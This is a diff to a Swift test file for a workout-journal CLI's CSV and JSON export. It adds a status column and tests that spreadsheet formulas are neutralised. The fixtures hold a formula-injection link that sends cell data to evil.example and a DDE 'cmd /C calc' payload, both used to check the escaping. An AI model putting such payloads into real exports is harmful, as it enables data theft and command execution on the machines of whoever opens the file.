@@ -138,12 +138,12 @@ import Testing
         let journal = try folder.copy(fixture: "examples/journal")
         let csv = plusmd(["export", "--format", "csv", "-o", "-"], in: journal)
         let rows = csv.out.components(separatedBy: "\r\n")
-        #expect(rows[0] == "date,lift,cycle,week,kind,set,target_weight,target_reps,weight,reps,amrap,e1rm,unit,written_weight,written_unit,notes,supplemental")
-        #expect(rows.contains("2026-09-01,squat,1,1,working,3,270,5,270,8,true,342,lb,,,\"First day of the program. 270 moved well; stopped at 8 with one more maybe in the tank. BBB at 160 felt light for the first three sets, not for the last two.\","))
-        #expect(rows.contains { $0.hasPrefix("2026-11-24,bench,3,1,bbb,5,120,10,,,false,,lb,") }, "a set not ticked has no done weight")
-        // The default program's supplemental sets say `bbb` in the last column; other kinds leave it empty.
-        #expect(rows.filter { $0.contains(",bbb,") }.allSatisfy { $0.hasSuffix(",bbb") })
-        #expect(rows.filter { $0.contains(",working,") || $0.contains(",warmup,") }.allSatisfy { $0.hasSuffix(",") })
+        #expect(rows[0] == "date,lift,cycle,week,kind,set,target_weight,target_reps,weight,reps,amrap,e1rm,unit,written_weight,written_unit,notes,supplemental,status")
+        #expect(rows.contains("2026-09-01,squat,1,1,working,3,270,5,270,8,true,342,lb,,,\"First day of the program. 270 moved well; stopped at 8 with one more maybe in the tank. BBB at 160 felt light for the first three sets, not for the last two.\",,done"))
+        #expect(rows.contains { $0.hasPrefix("2026-11-24,bench,3,1,bbb,5,120,10,,,false,,lb,") && $0.hasSuffix(",open") }, "a set not ticked has no done weight")
+        // The default program's supplemental sets say `bbb`; other kinds leave that column empty.
+        #expect(rows.filter { $0.contains(",bbb,") }.allSatisfy { $0.hasSuffix(",bbb,done") || $0.hasSuffix(",bbb,open") || $0.hasSuffix(",bbb,skipped") })
+        #expect(rows.filter { $0.contains(",working,") || $0.contains(",warmup,") }.allSatisfy { $0.hasSuffix(",,done") || $0.hasSuffix(",,open") || $0.hasSuffix(",,skipped") })
         let json = plusmd(["export", "--format", "json", "-o", "out.json"], in: journal)
         #expect(json.status == 0)
         let object = try JSONSerialization.jsonObject(with: Data(contentsOf: URL(fileURLWithPath: journal + "/out.json"))) as? [String: Any]
@@ -184,10 +184,10 @@ import Testing
         #expect(csv.status == 0, "\(csv.err)")
         let rows = csv.out.components(separatedBy: "\r\n")
         #expect(rows.contains { $0.hasPrefix("2026-09-01,squat,1,1,working,3,270,5,270,8,true,342,lb,,,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"") }, "\(rows.prefix(12))")
-        #expect(rows.contains { $0.hasSuffix(",lb,,,'@SUM(1+1)*cmd|' /C calc'!A0,") || $0.hasSuffix(",lb,,,'@SUM(1+1)*cmd|' /C calc'!A0,bbb") })
+        #expect(rows.contains { $0.contains(",lb,,,'@SUM(1+1)*cmd|' /C calc'!A0,,") || $0.contains(",lb,,,'@SUM(1+1)*cmd|' /C calc'!A0,bbb,") })
         for row in rows.dropFirst() where !row.isEmpty {
             let cells = row.split(separator: ",", omittingEmptySubsequences: false)
-            #expect(!"=+-@".contains(cells.dropLast().last?.first ?? "x"), "no cell starts a formula: \(row)")
+            #expect(!"=+-@".contains(cells.dropLast(2).last?.first ?? "x"), "no cell starts a formula: \(row)")
             #expect(Double(cells[2]) != nil && Double(cells[6]) != nil, "numbers stay numbers: \(row)")
         }
         #expect(ExportCSV.neutralised("+1 rep next time") == "'+1 rep next time")
